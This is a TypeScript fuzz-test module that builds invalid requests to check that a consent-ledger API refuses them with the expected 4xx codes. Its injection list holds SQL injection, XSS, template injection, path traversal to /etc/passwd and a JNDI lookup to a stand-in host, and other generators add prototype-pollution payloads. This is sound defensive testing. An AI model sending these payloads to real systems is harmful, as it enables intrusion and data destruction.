import fc from 'fast-check';
import { iinCheckDigit, isValidIin } from '@ledger/consent-domain';
import {
  KEY_PATTERN,
  POLICY_ID_PATTERN,
  SUBJECT_ID_PATTERN,
  VERSION_PATTERN,
} from '../../../apps/ledger/src/http/validation';
import { Body, clone, Field, getAt, Json, Path, setAt, show } from './shapes';

/**
 * The mutation classes of the bad-input fuzz test: each turns a command's valid body into a request
 * that is invalid by construction. Random choices are drawn from fast-check, which seeds, replays
 * and shrinks them.
 */

/** Random choices inside one generated case, drawn from fast-check so that a failure can be replayed and shrunk. */
export class Draw {
  constructor(private readonly g: fc.GeneratorValue) {}

  int(n: number): number {
    return this.g(fc.nat, n - 1);
  }

  between(min: number, max: number): number {
    return this.g(fc.integer, { min, max });
  }

  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)];
  }

  chance(p: number): boolean {
    return this.int(1000) < p * 1000;
  }

  /** A UUID the ledger never issued. */
  uuid(): string {
    return this.g(fc.uuid, { version: 4 });
  }
}

/** A request a domain rule refuses (404, 409, 422) before anything is written. */
export interface Refusal {
  readonly detail: string;
  readonly body: Body;
  readonly url?: string;
  readonly expect: readonly number[];
  readonly codes?: readonly string[];
}

export interface CommandSpec {
  /** The route as the OpenAPI document names it: `POST /v1/withdrawals/{withdrawalId}/processing-stopped`. */
  readonly name: string;
  readonly url: string;
  readonly token: string;
  /** A body the ledger would accept as it is: every mutation must break it. */
  readonly base: () => Body;
  /** Read from the OpenAPI document and the DTO (see shapes.ts). */
  readonly fields: readonly Field[];
  /** For commands with an id in the path. */
  readonly pathId?: {
    readonly value: string;
    readonly url: (id: string) => string;
    readonly kind: 'uuid' | 'policyId' | 'hex32';
  };
  /** Dates that are well formed but contradict the facts they refer to. */
  readonly contradictoryDates?: readonly ((draw: Draw) => Refusal)[];
  /** Well-formed references to things the ledger does not hold. */
  readonly unknownReferences?: readonly ((draw: Draw) => Refusal)[];
  /** Facts already recorded, sent again under a fresh key. */
  readonly alreadyRecorded?: readonly ((draw: Draw) => Refusal)[];
}

/** A key the setup really used, with the request it was used for. */
export interface UsedKey {
  readonly key: string;
  readonly command: string;
  readonly url: string;
  readonly body: Body;
  /** The same request with one valid field changed. */
  readonly changed: (draw: Draw) => Body;
  /** A refusal that may answer first, before the key is looked at. */
  readonly orRefused?: { readonly status: number; readonly code: string };
}

export interface FuzzContext {
  readonly now: () => string;
  readonly specs: readonly CommandSpec[];
  readonly usedKeys: readonly UsedKey[];
  /** Field names some command knows: an "unknown field" never uses one. */
  readonly knownNames: ReadonlySet<string>;
  readonly bodyLimit: number;
}

/** What one generated case sends, and what it may get back. */
export interface Draft {
  readonly detail: string;
  readonly url?: string;
  readonly headers?: Record<string, string | undefined>;
  /** A body to serialise, or the exact bytes to send. */
  readonly body?: Json;
  readonly raw?: string | Buffer;
  readonly noBody?: boolean;
  readonly expect: readonly number[];
  readonly codes?: readonly string[];
  /** The idempotency key header to send instead of a fresh one; null sends none. */
  readonly key?: string | null;
}

/** Makes a case of a class for a command; undefined when the class does not fit the command. */
export type Generator = (spec: CommandSpec, draw: Draw, ctx: FuzzContext) => Draft | undefined;

/** Fields present in the base body, or top-level ones a mutation may add. */
const fieldsIn = (spec: CommandSpec, base: Body, accept: (f: Field) => boolean) =>
  spec.fields.filter((f) => accept(f) && (getAt(base, f.path) !== undefined || f.path.length === 1));

/** Free text (and e-mail and URL, whose rules admit nearly any character) may hold any bad content. */
const isFree = (f: Field) => f.rule === 'text' || f.rule === 'email' || f.rule === 'url';

// ---------------------------------------------------------------------------------------------
// Bad values

/** Strings that attack a parser, a query or a template. None fits a code, id, key, date or IIN. */
export const INJECTIONS: readonly string[] = [
  "' OR 1=1; DROP TABLE events; --",
  '" OR ""="; DELETE FROM events WHERE 1=1; --',
  "Robert'); DROP TABLE Students;--",
  "'; exec xp_cmdshell('dir'); --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${process.exit()}',
  '#{7*7}',
  '${jndi:ldap://evil.example/a}',
  '$where',
  '{"$gt": ""}',
  '__proto__',
  'a\u0000b',
  '\u0000',
  '\u202Eexe.txt',
  'ж'.repeat(3000),
  '😀'.repeat(1000),
  '\uD800',
  'x\uDC00y',
  '../../../../etc/passwd',
  '%00',
  '\r\nSet-Cookie: pwned=1',
  '\\u0000',
  '\u200B',
];

const UNICODE_DIGITS = ['٠١٢٣٤٥٦٧٨٩', '０１２３４５６７８９', '०१२३४५६७८९', '۰۱۲۳۴۵۶۷۸۹'];

/** An IIN that fails its rule, built from a valid one. */
export function badIin(draw: Draw, valid: string): { label: string; value: Json } {
  const first11 = valid.slice(0, 11);
  const check = Number(valid[11]);
  const variants: [string, () => Json][] = [
    ['wrong check digit', () => first11 + ((check + draw.between(1, 9)) % 10)],
    ['11 digits', () => valid.slice(0, 11)],
    ['13 digits', () => valid + draw.int(10)],
    ['a letter for a digit', () => replaceAt(valid, draw.int(12), draw.pick(['O', 'l', 'a', 'Z', 'x']))],
    [
      'unicode digits',
      () => {
        const set = draw.pick(UNICODE_DIGITS);
        return draw.chance(0.5)
          ? [...valid].map((d) => set[Number(d)]).join('')
          : replaceAt(valid, draw.int(12), set[Number(valid[0])]);
      },
    ],
    ['surrounding space', () => draw.pick([` ${valid}`, `${valid} `, `${valid}\n`, `\t${valid}`])],
    ['grouped', () => `${valid.slice(0, 6)}-${valid.slice(6)}`],
    ['a number, not a string', () => Number(valid)],
    ['signed', () => draw.pick(['+', '-']) + valid],
    ['invisible character', () => replaceAt(valid, draw.between(1, 11), valid[draw.int(12)] + '\u200B', 0)],
    ['RTL override', () => `\u202E${valid}`],
    ['NUL', () => `${valid}\u0000`],
    ['empty', () => ''],
    ['too short', () => valid.slice(0, draw.between(1, 10))],
    ['no valid check digit exists', () => noCheckDigit(draw) + draw.int(10)],
    ['digits twice', () => valid + valid],
    ['scientific', () => `${valid.slice(0, 1)}.${valid.slice(1)}e11`],
  ];
  for (;;) {
    const [label, make] = draw.pick(variants);
    const value = make();
    if (!(typeof value === 'string' && isValidIin(value))) return { label, value };
  }
}

/** A valid IIN the ledger has never seen (none of `avoid`). */
export function randomIin(draw: Draw, avoid: ReadonlySet<string>): string {
  for (;;) {
    const digits = Array.from({ length: 11 }, () => draw.int(10));
    const check = iinCheckDigit(digits);
    const iin = digits.join('') + String(check);
    if (check !== undefined && isValidIin(iin) && !avoid.has(iin)) return iin;
  }
}

/** Near misses of a real UUID that a UUID rule must refuse. */
/** Near misses of a 32-hex-digit id (a webhook subscriber's). */
export function hexMisses(id: string): string[] {
  return ['not-an-id', id.slice(1), `${id}0`, id.toUpperCase(), id.replace(/[0-9a-f]$/, 'g'), ` ${id}`, `${id}\n`, ''];
}

export function uuidMisses(id: string): string[] {
  return [
    'not-a-uuid',
    '123',
    id.replace(/-/g, ''),
    `${id}a`,
    id.slice(1),
    `{${id}}`,
    id.replace(/[0-9a-f]$/, 'g'),
    ` ${id}`,
    `${id}\n`,
    id.replace(/-/g, '_'),
    `${id.slice(0, 7)}-${id.slice(9)}`,
    '',
  ];
}

function replaceAt(text: string, at: number, by: string, remove = 1): string {
  return text.slice(0, at) + by + text.slice(at + remove);
}

function noCheckDigit(draw: Draw): string {
  for (;;) {
    const digits = Array.from({ length: 11 }, () => draw.int(10));
    if (iinCheckDigit(digits) === undefined) return digits.join('');
  }
}

/** Date-times the ledger cannot read, whatever its clock says. */
export const MALFORMED_INSTANTS: readonly string[] = [
  '2025-02-30T10:00:00Z',
  '2025-02-29T10:00:00Z',
  '2025-04-31T10:00:00Z',
  '2025-13-01T00:00:00Z',
  '2025-00-10T00:00:00Z',
  '2025-01-00T00:00:00Z',
  '2025-01-01T25:61:00Z',
  '2025-01-01T23:60:00Z',
  // A leap second only ends June or December (UTC): 23:59:60 on 30 June is read, these are not.
  '2025-03-31T23:59:60Z',
  '2025-06-30T23:59:61Z',
  '2025-01-01T10:00:00',
  '2025-01-01 10:00:00Z',
  '2025-01-01',
  '10:00:00Z',
  '10000-01-01T00:00:00Z',
  '+010000-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2025-1-1T10:00:00Z',
  '25-01-01T10:00:00Z',
  '2025-01-01T10:00:00+25:00',
  '2025-01-01T10:00:00+05:99',
  '2025-01-01T10:00:00+0500',
  '2025-01-01T10:00:00.Z',
  '2025-01-01T10:00:00z',
  '2025-01-01T10:00:00 Z',
  '2025-W01-1T10:00:00Z',
  '2025-001T10:00:00Z',
  'Wed, 01 Jan 2025 10:00:00 GMT',
  '1735725600000',
  'yesterday',
  'now',
  '',
  ' ',
  '२०२५-०१-०१T10:00:00Z',
  '２０２５-01-01T10:00:00Z',
  '2025-01-01T10:00:00Z\u0000',
  '2025-01-01T10:00:00ZZ',
  'NaN',
  'Infinity',
];

const YEAR = 365 * 24 * 60 * 60 * 1000;
const DAY = 24 * 60 * 60 * 1000;

/** Well-formed, but beyond the 2-minute skew: an event the caller says has not happened yet. */
export function futureInstant(draw: Draw, now: string): string {
  const ahead = draw.pick([5 * 60 * 1000, 60 * 60 * 1000, DAY, 30 * DAY, 10 * YEAR]) + draw.int(60_000);
  return draw.chance(0.1) ? '9999-12-31T23:59:59.999Z' : new Date(Date.parse(now) + ahead).toISOString();
}

/** Well-formed, but older than the 30-day late-entry window. */
export function tooOldInstant(draw: Draw, now: string): string {
  const back = draw.pick([31 * DAY, 90 * DAY, YEAR, 50 * YEAR]) + draw.int(DAY);
  // The year 0000 is one the ledger reads (RFC 3339 allows it, and instants run 0000–9999): long ago, not malformed.
  if (draw.chance(0.1)) return draw.pick(['1970-01-01T00:00:00.000Z', '0000-01-01T00:00:00Z']);
  return new Date(Date.parse(now) - back).toISOString();
}

/** Values of the wrong JSON type for a field of this kind (null only where absence is invalid). */
export function wrongTypes(field: Field): Json[] {
  const nullable: Json[] = field.required ? [null] : [];
  switch (field.type) {
    case 'boolean':
      return ['true', 'false', 1, 0, 'yes', {}, [], [true], ...nullable];
    case 'codes':
      return [field.item ?? 'advertising', {}, 1, true, [1], [null], [[field.item ?? 'x']], [{}], ...nullable];
    case 'object':
      return ['x', 1, true, [], [{}], ...nullable];
    case 'objects':
      return ['x', 1, true, {}, field.item ?? { kind: 'k' }, [1], ['x'], [null], [[]], ...nullable];
    default:
      return [0, -1, 3.14, 1e308, 900101300017, true, false, {}, { $where: '1' }, [], ['x'], ...nullable];
  }
}

// ---------------------------------------------------------------------------------------------
// Generators, one per mutation class

/** Names every object inherits (but __proto__, which proto-pollution sends). */
const INHERITED_NAMES = [...Object.getOwnPropertyNames(Object.prototype).filter((n) => n !== '__proto__'), 'prototype'];

const EXTRA_NAMES = [
  'admin',
  'isAdmin',
  'role',
  'roles',
  'status',
  'id',
  'eventId',
  'position',
  'IIN',
  'Iin',
  'iin ',
  ' iin',
  'ｉｉｎ',
  'occurred_at',
  'occurredat',
  'OccurredAt',
  '$where',
  '$gt',
  '$set',
  '',
  'a.b',
  '0',
  'x'.repeat(1000),
  'имя',
  '\u0000',
  "' OR 1=1 --",
  '<script>',
];

/** Containers where a field can be added: the body and every nested object of the base. */
function containers(spec: CommandSpec, base: Body): Path[] {
  const paths: Path[] = [[]];
  for (const f of spec.fields) {
    if (f.type === 'object' && getAt(base, f.path) !== undefined) paths.push(f.path);
    if (f.type === 'objects' && Array.isArray(getAt(base, f.path)) && (getAt(base, f.path) as Json[]).length > 0)
      paths.push([...f.path, 0]);
  }
  return paths;
}

/** A second, definite violation, for when the first may be allowed content (free text). */
function withViolation(spec: CommandSpec, draw: Draw, body: Body): { body: Body; detail: string } {
  const iin = spec.fields.find((f) => f.rule === 'iin');
  const required = spec.fields.filter((f) => f.required && getAt(body, f.path) !== undefined);
  const choice = draw.int(3);
  if (choice === 0 && iin && typeof getAt(body, iin.path) === 'string') {
    const bad = badIin(draw, getAt(body, iin.path) as string);
    return { body: setAt(body, iin.path, bad.value), detail: `and iin ${bad.label}` };
  }
  if (choice === 1 && required.length > 0) {
    const drop = draw.pick(required);
    return { body: setAt(body, drop.path, undefined), detail: `and without ${show(drop.path)}` };
  }
  return { body: setAt(body, ['fuzzExtra'], draw.pick(INJECTIONS)), detail: 'and an unknown field' };
}

const stringFields = (spec: CommandSpec, base: Body) => fieldsIn(spec, base, (f) => f.type === 'string');

export const GENERATORS: Record<string, Generator> = {
  'huge-string': (spec, draw, ctx) => {
    const base = spec.base();
    const field = draw.pick(fieldsIn(spec, base, () => true));
    const variant = draw.int(4);
    if (variant === 0) {
      // Past the body limit: refused before it is parsed.
      const text = draw.pick(['a', 'ж', '😀', '\u0000']).repeat(ctx.bodyLimit + 1 + draw.int(100_000));
      return {
        detail: `${show(field.path)} holds ${text.length} characters (body over the limit)`,
        body: setAt(base, field.path, text),
        expect: [413],
        codes: ['payload-too-large'],
      };
    }
    if (variant === 1) {
      const extra = Array.from({ length: draw.between(700, 3000) }, (_, i) => [`f${i}`, 'x'.repeat(100)]);
      return {
        detail: `${extra.length} extra fields (body over the limit)`,
        body: { ...base, ...Object.fromEntries(extra) },
        expect: [413],
        codes: ['payload-too-large'],
      };
    }
    if (variant === 2 && field.rule === 'text' && field.maxLength) {
      // Just past the longest valid value.
      const text = 'r'.repeat(field.maxLength + draw.between(1, 3));
      return {
        detail: `${show(field.path)} of ${text.length} characters`,
        body: setAt(base, field.path, text),
        expect: [400],
      };
    }
    // Large but under the limit: the field's own rule must refuse it.
    const unit = draw.pick(['a', '9', 'ж', 'a-']);
    const text = unit.repeat(Math.floor(draw.between(4_000, 28_000) / unit.length));
    return {
      detail: `${show(field.path)} of ${text.length} characters`,
      body: setAt(base, field.path, text),
      expect: [400],
    };
  },

  'array-bounds': (spec, draw) => {
    const base = spec.base();
    const arrays = fieldsIn(spec, base, (f) => f.type === 'codes' || f.type === 'objects');
    if (arrays.length === 0) return undefined;
    const field = draw.pick(arrays);
    // Bounded at 64 if the DTO forgot to say: an unbounded list is a finding.
    const tooMany = (field.maxItems ?? 64) + draw.between(1, 200);
    if ((field.minItems ?? 0) > 0 && draw.chance(0.4)) {
      return { detail: `${show(field.path)} empty`, body: setAt(base, field.path, []), expect: [400] };
    }
    return {
      detail: `${show(field.path)} with ${tooMany} items`,
      body: setAt(
        base,
        field.path,
        Array.from({ length: tooMany }, () => clone(field.item ?? 'x')),
      ),
      expect: [400, 413],
    };
  },

  'invalid-iin': (spec, draw) => {
    const base = spec.base();
    const field = spec.fields.find((f) => f.rule === 'iin');
    if (!field) return undefined;
    const bad = badIin(draw, getAt(base, field.path) as string);
    return {
      detail: `iin: ${bad.label} (${JSON.stringify(bad.value)})`,
      body: setAt(base, field.path, bad.value),
      expect: [400],
    };
  },

  'unknown-code': (spec, draw) => {
    const base = spec.base();
    const fields = fieldsIn(spec, base, (f) => f.allowed !== undefined);
    if (fields.length === 0) return undefined;
    const field = draw.pick(fields);
    const allowed = new Set(field.allowed);
    const candidates = [
      'other-purposes',
      'telepathy',
      'first-credit-bureau-2',
      'iin2',
      'advertising-abroad',
      'en',
      'fax',
      'carrier-pigeon',
      'forever',
      'x',
      'a1-b2-c3',
      ...['advertising', 'enpf', 'iin', 'microcredit-reporting', 'sms', 'paper', 'kk', 'court-decision', 'until'],
    ].filter((c) => !allowed.has(c));
    const code = draw.pick(candidates);
    if (field.type === 'codes') {
      const list = [...((getAt(base, field.path) as string[] | undefined) ?? [field.item as string])];
      list.splice(draw.int(list.length + 1), 0, code);
      return { detail: `${show(field.path)} includes ${code}`, body: setAt(base, field.path, list), expect: [400] };
    }
    return { detail: `${show(field.path)} = ${code}`, body: setAt(base, field.path, code), expect: [400] };
  },

  'bad-date': (spec, draw, ctx) => {
    const base = spec.base();
    const fields = fieldsIn(spec, base, (f) => f.rule === 'instant');
    if (fields.length === 0) return undefined;
    if (spec.contradictoryDates && draw.chance(1 / 8)) {
      return refusal(draw.pick(spec.contradictoryDates)(draw));
    }
    const field = draw.pick(fields);
    const now = ctx.now();
    const roll = draw.int(10);
    if (field.path.at(-1) === 'occurredAt' && roll < 2) {
      const value = futureInstant(draw, now);
      return {
        detail: `${show(field.path)} in the future: ${value}`,
        body: setAt(base, field.path, value),
        expect: [400],
      };
    }
    if (roll < 4) {
      // For occurredAt: outside the window (422). For a later instant: before occurredAt.
      const value = tooOldInstant(draw, now);
      return {
        detail: `${show(field.path)} long ago: ${value}`,
        body: setAt(base, field.path, value),
        expect: [400, 422],
      };
    }
    const value = draw.pick(MALFORMED_INSTANTS);
    return {
      detail: `${show(field.path)} = ${JSON.stringify(value)}`,
      body: setAt(base, field.path, value),
      expect: [400],
    };
  },

  'unknown-field': (spec, draw, ctx) => {
    const base = spec.base();
    const places = containers(spec, base);
    const at = draw.pick(places);
    const names = EXTRA_NAMES.filter((n) => !ctx.knownNames.has(n));
    const name = draw.chance(0.3) ? `x-fuzz-${draw.int(1e6)}` : draw.pick(names);
    const value = draw.pick<Json>([true, 1, 'x', draw.pick(INJECTIONS), {}, [], { nested: { deeper: 1 } }, null]);
    return {
      detail: `${show(at)} gets ${JSON.stringify(name).slice(0, 30)}`,
      body: setAt(base, [...at, name], value),
      expect: [400],
    };
  },

  'proto-pollution': (spec, draw) => {
    const base = spec.base();
    const at = draw.pick(containers(spec, base));
    const payload = draw.pick(['{"polluted":true}', '{"isAdmin":true,"roles":["compliance-admin"]}', '{"toString":1}']);
    const variant = draw.pick(['__proto__', 'constructor.prototype', '__proto__ in an array item']);
    const text = JSON.stringify(base);
    let raw: string;
    if (variant === '__proto__') raw = insertKey(text, base, at, `"__proto__":${payload}`);
    else if (variant === 'constructor.prototype')
      raw = insertKey(text, base, at, `"constructor":{"prototype":${payload}}`);
    else raw = insertKey(text, base, [], `"fuzzList":[{"__proto__":${payload}}]`);
    // Valid JSON naming a field no request has: refused as unknown, as `toString` is (README).
    return { detail: `${variant} at ${show(at)}`, raw, expect: [400], codes: ['invalid-request'] };
  },

  injection: (spec, draw) => {
    const base = spec.base();
    const text = draw.pick(INJECTIONS);
    if (spec.pathId && draw.chance(0.1)) {
      return {
        detail: `path id = ${JSON.stringify(text).slice(0, 40)}`,
        url: spec.pathId.url(encodePathSegment(text)),
        body: base,
        expect: [400, 404, 414],
      };
    }
    if (draw.chance(0.1) && text !== '__proto__') {
      return {
        detail: `a field named ${JSON.stringify(text).slice(0, 40)}`,
        body: setAt(base, [text], 1),
        expect: [400],
      };
    }
    const targets = stringFields(spec, base).concat(fieldsIn(spec, base, (f) => f.type === 'codes'));
    const field = draw.pick(targets);
    const value: Json = field.type === 'codes' ? [text] : text;
    const body = setAt(base, field.path, value);
    if (isFree(field)) {
      // Free text may hold any of these: only a second violation makes the request invalid.
      const paired = withViolation(spec, draw, body);
      return {
        detail: `${show(field.path)} = ${JSON.stringify(text).slice(0, 40)} ${paired.detail}`,
        body: paired.body,
        expect: [400],
      };
    }
    return { detail: `${show(field.path)} = ${JSON.stringify(text).slice(0, 40)}`, body, expect: [400] };
  },

  'malformed-json': (spec, draw) => {
    const text = JSON.stringify(spec.base());
    const cut = draw.between(1, text.length - 1);
    const variants: [string, () => string][] = [
      ['truncated', () => text.slice(0, cut)],
      ['trailing comma', () => text.slice(0, -1) + ',}'],
      ['single quotes', () => text.replace(/"/g, "'")],
      ['unquoted keys', () => text.replace(/"([A-Za-z]+)":/g, '$1:')],
      ['a comment', () => `// note\n${text}`],
      ['NaN', () => text.slice(0, -1) + ',"n":NaN}'],
      ['undefined', () => text.slice(0, -1) + ',"u":undefined}'],
      ['trailing garbage', () => `${text}x`],
      ['two documents', () => `${text}${text}`],
      ['BOM and truncated', () => `\uFEFF${text.slice(0, cut)}`],
      ['leading garbage', () => `)]}',\n${text}`],
      ['hex number', () => text.slice(0, -1) + ',"h":0x1F}'],
      ['raw control character in a string', () => text.replace(/"iin":"/, '"iin":"\u0001').replace(/^{"/, '{"\u0007')],
      ['bad escape', () => text.replace(/"$/, '').slice(0, -1) + ',"e":"\\x41"}'],
      ['unterminated string', () => text.slice(0, -2)],
      ['missing brace', () => text.slice(1)],
      ['key without value', () => text.slice(0, -1) + ',"k":}'],
      ['deleted character', () => text.slice(0, cut) + text.slice(cut + 1)],
      ['empty', () => ''],
      ['whitespace', () => ' \n\t '],
    ];
    for (;;) {
      const [label, make] = draw.pick(variants);
      const raw = make();
      if (!parses(raw)) return { detail: label, raw, expect: [400], codes: ['malformed-json'] };
    }
  },

  'content-type': (spec, draw) => {
    const base = spec.base();
    const refused = [
      'text/plain',
      'text/plain; charset=utf-8',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=fuzz',
      'application/xml',
      'text/json',
      'application/merge-patch+json',
      'application/octet-stream',
      'application/jsonx',
      'json',
      'text/html',
      'application/json-seq',
      'image/png',
      undefined,
    ];
    if (draw.chance(0.75)) {
      const type = draw.pick(refused);
      // The body is otherwise valid: only the media type stops it.
      return {
        detail: `content-type ${type ?? '(none)'}`,
        headers: { 'content-type': type },
        body: base,
        expect: [415],
        codes: ['unsupported-media-type'],
      };
    }
    // Types a parser may read as JSON: the body carries its own violation too.
    const type = draw.pick([
      'APPLICATION/JSON',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;;',
      'application/json, text/plain',
    ]);
    const paired = withViolation(spec, draw, base);
    return {
      detail: `content-type ${type} ${paired.detail}`,
      headers: { 'content-type': type },
      body: paired.body,
      expect: [400, 415],
    };
  },

  'empty-body': (spec, draw) => {
    const variants: [string, Draft][] = [
      ['no body, JSON type', { detail: '', noBody: true, expect: [400] }],
      ['no body, no type', { detail: '', noBody: true, headers: { 'content-type': undefined }, expect: [400, 415] }],
      ['empty string', { detail: '', raw: '', expect: [400] }],
      ['null', { detail: '', raw: 'null', expect: [400] }],
      ...(spec.fields.some((f) => f.required)
        ? [['{}', { detail: '', raw: '{}', expect: [400] }] as [string, Draft]]
        : []),
      ['[]', { detail: '', raw: '[]', expect: [400] }],
      ['a string', { detail: '', raw: '"body"', expect: [400] }],
      ['a number', { detail: '', raw: '0', expect: [400] }],
      ['false', { detail: '', raw: 'false', expect: [400] }],
      ['an array of the body', { detail: '', raw: `[${JSON.stringify(spec.base())}]`, expect: [400] }],
    ];
    const [label, draft] = draw.pick(variants);
    return { ...draft, detail: label };
  },

  'bad-idempotency-key': (spec, draw) => {
    const base = spec.base();
    const bad = [
      'k'.repeat(129),
      'k'.repeat(draw.between(200, 10_000)),
      'a b',
      'a/b',
      'ключ',
      'clé',
      '-leading-dash',
      '.leading-dot',
      '_leading',
      ' ',
      'a;b',
      'a,b',
      '<script>',
      "' OR 1=1",
      '{{7*7}}',
      '${x}',
      '%00',
      'a\tb',
      'a\u0000b',
      '../../etc',
      '*',
    ];
    const value = draw.pick(bad);
    switch (draw.int(6)) {
      case 0:
        return { detail: 'no key at all', body: base, key: null, expect: [400], codes: ['idempotency-key-required'] };
      case 1:
        return { detail: 'empty header', body: base, key: '', expect: [400] };
      case 2:
        return {
          detail: `commandId ${JSON.stringify(value).slice(0, 30)}, no header`,
          body: { ...base, commandId: value },
          key: null,
          expect: [400],
        };
      case 3:
        return {
          detail: `commandId of wrong type, no header`,
          body: { ...base, commandId: draw.pick<Json>([1, true, {}, ['k'], null]) },
          key: null,
          expect: [400],
        };
      case 4:
        return {
          detail: 'header and commandId differ',
          body: { ...base, commandId: `other-${draw.int(1e6)}` },
          expect: [400],
          codes: ['idempotency-key-mismatch'],
        };
      default:
        return { detail: `header ${JSON.stringify(value).slice(0, 30)}`, body: base, key: value, expect: [400] };
    }
  },

  'bad-path': (spec, draw) => {
    const base = spec.base();
    if (spec.pathId && draw.chance(0.7)) {
      const id = spec.pathId.value;
      const own =
        spec.pathId.kind === 'uuid'
          ? uuidMisses(id)
          : spec.pathId.kind === 'hex32'
            ? hexMisses(id)
            : PATTERN_MISSES[POLICY_ID_PATTERN.source];
      const misses = [...own.filter(Boolean).map(encodePathSegment), '%00', '..', '%2e%2e', '1%20OR%201=1'];
      const roll = draw.int(10);
      if (roll === 0)
        return {
          detail: 'an id too long for the router',
          url: spec.pathId.url('a'.repeat(draw.between(101, 3000))),
          body: base,
          expect: [400, 414],
        };
      if (roll === 1)
        return {
          detail: 'bad percent-encoding',
          url: spec.pathId.url(draw.pick(['%zz', '%E0%A4%A', '%ED%A0%80', '%', `${id}%C0%AF`])),
          body: base,
          expect: [400],
        };
      if (roll === 2) return { detail: 'empty id', url: spec.pathId.url(''), body: base, expect: [404] };
      const miss = draw.pick(misses);
      return {
        detail: `id ${JSON.stringify(miss).slice(0, 50)}`,
        url: spec.pathId.url(miss),
        body: base,
        expect: [400, 404],
      };
    }
    const url = draw.pick([
      `${spec.url}/`,
      spec.url.toUpperCase(),
      `${spec.url}/x`,
      spec.url.replace('/v1/', '/v1//'),
      `${spec.url}%00`,
      `${spec.url}.json`,
      spec.url.replace('/v1/', '/v2/'),
      spec.url.replace('/v1/', '/'),
      `${spec.url}/..`,
      spec.url.replace(/-/g, '_') + (spec.url.includes('-') ? '' : '_'),
      `${spec.url};jsessionid=1`,
    ]);
    return { detail: `url ${url.slice(0, 80)}`, url, body: base, expect: [404], codes: ['route-not-found'] };
  },

  'reused-key': (spec, draw, ctx) => {
    const own = ctx.usedKeys.filter((u) => u.command === spec.name);
    if (own.length > 0 && draw.chance(0.6)) {
      // The same command again under its key, one valid field changed.
      const used = draw.pick(own);
      const body = used.changed(draw);
      const viaBody = draw.chance(0.3);
      return {
        detail: `setup key again${viaBody ? ' as commandId' : ''}, body changed`,
        url: used.url,
        body: viaBody ? { ...body, commandId: used.key } : body,
        key: viaBody ? null : used.key,
        expect: used.orRefused ? [409, used.orRefused.status] : [409],
        codes: used.orRefused ? ['idempotency-key-reused', used.orRefused.code] : ['idempotency-key-reused'],
      };
    }
    // This command's valid body under a key the setup spent on another command.
    const other = draw.pick(ctx.usedKeys.filter((u) => u.command !== spec.name));
    return {
      detail: `key of setup ${other.command}`,
      body: spec.base(),
      key: other.key,
      expect: [409],
      codes: ['idempotency-key-reused'],
    };
  },

  'unknown-reference': (spec, draw) =>
    spec.unknownReferences ? refusal(draw.pick(spec.unknownReferences)(draw)) : undefined,

  'already-recorded': (spec, draw) =>
    spec.alreadyRecorded ? refusal(draw.pick(spec.alreadyRecorded)(draw)) : undefined,

  'duplicate-key': (spec, draw) => {
    const base = spec.base();
    const fields = fieldsIn(spec, base, (f) => f.path.length === 1 && getAt(base, f.path) !== undefined);
    if (fields.length === 0) return undefined;
    const field = draw.pick(fields);
    const bad = draw.pick(wrongTypes(field));
    // JSON.parse keeps the last: a valid first value must not win.
    const raw = JSON.stringify(base).slice(0, -1) + `,${JSON.stringify(field.path[0])}:${JSON.stringify(bad)}}`;
    return { detail: `${show(field.path)} twice, last ${JSON.stringify(bad).slice(0, 30)}`, raw, expect: [400] };
  },

  'invalid-utf8': (spec, draw) => {
    const base = spec.base();
    const field = draw.pick(stringFields(spec, base));
    const bytes = draw.pick([
      [0xff],
      [0xfe, 0xff],
      [0xc3],
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0x80],
    ]);
    const marker = '@@BYTES@@';
    const [before, after] = JSON.stringify(setAt(base, field.path, `${getAt(base, field.path) ?? 'x'}${marker}`)).split(
      marker,
    );
    // Not UTF-8, so no JSON text (RFC 8259 §8.1): refused whatever the field, free text included.
    const raw = Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
    const detail = `bytes ${bytes.map((b) => b.toString(16)).join(' ')} in ${show(field.path)}`;
    return { detail, raw, expect: [400] };
  },

  'odd-headers': (spec, draw) => {
    const paired = withViolation(spec, draw, spec.base());
    const headers = draw.pick<Record<string, string>>([
      { accept: 'application/xml' },
      { accept: 'text/html' },
      { 'x-correlation-id': draw.pick(INJECTIONS.filter((i) => /^[\x20-\x7e]*$/.test(i))) },
      { 'x-correlation-id': 'c'.repeat(20_000) },
      { 'x-forwarded-for': "1.2.3.4, ' OR 1=1, <script>" },
      { 'content-encoding': 'gzip' },
      { 'x-access-reason': '%E0%A4%A' },
      { 'accept-language': 'kk;q=abc' },
      { 'x-http-method-override': 'DELETE' },
    ]);
    return {
      detail: `${Object.keys(headers)[0]} ${paired.detail}`,
      headers,
      body: paired.body,
      expect: [400, 406, 415],
    };
  },

  'inherited-name-field': (spec, draw) => {
    // Names every object inherits, sent as fields of an otherwise valid body.
    const base = spec.base();
    const at = draw.pick(containers(spec, base));
    const name = draw.pick(INHERITED_NAMES);
    const value = draw.pick<Json>(['x', 1, true, [], { polluted: true }]);
    const raw = insertKey(JSON.stringify(base), base, at, `${JSON.stringify(name)}:${JSON.stringify(value)}`);
    return {
      detail: `${show(at)} gets ${name}: ${JSON.stringify(value)}`,
      raw,
      expect: [400],
      codes: ['invalid-request'],
    };
  },
};

/** Misses of a pattern, by the rule they break (a valid value's own variants are added, where the rule refuses them). */
const PATTERN_MISSES: Record<string, readonly string[]> = {
  [KEY_PATTERN.source]: ['-L1', '.L1', 'L 1', 'L/1', 'L#1', 'Л-1', 'k'.repeat(129), '', ' L1', 'L1 ', 'L1\n'],
  [POLICY_ID_PATTERN.source]: ['Privacy', 'privacy-policy', '_privacy', 'p'.repeat(65), 'privacy ', 'привет', ''],
  [VERSION_PATTERN.source]: ['.1', '_1', '1 ', 'v-1', 'x'.repeat(33), '1/2', '', 'версия'],
  [SUBJECT_ID_PATTERN.source]: ['A'.repeat(32), 'a'.repeat(31), 'g'.repeat(32), 'a'.repeat(33), ''],
  '^[0-9a-f]{64}$': ['A'.repeat(64), 'a'.repeat(63), 'a'.repeat(65), 'g'.repeat(64), ` ${'a'.repeat(63)}`, ''],
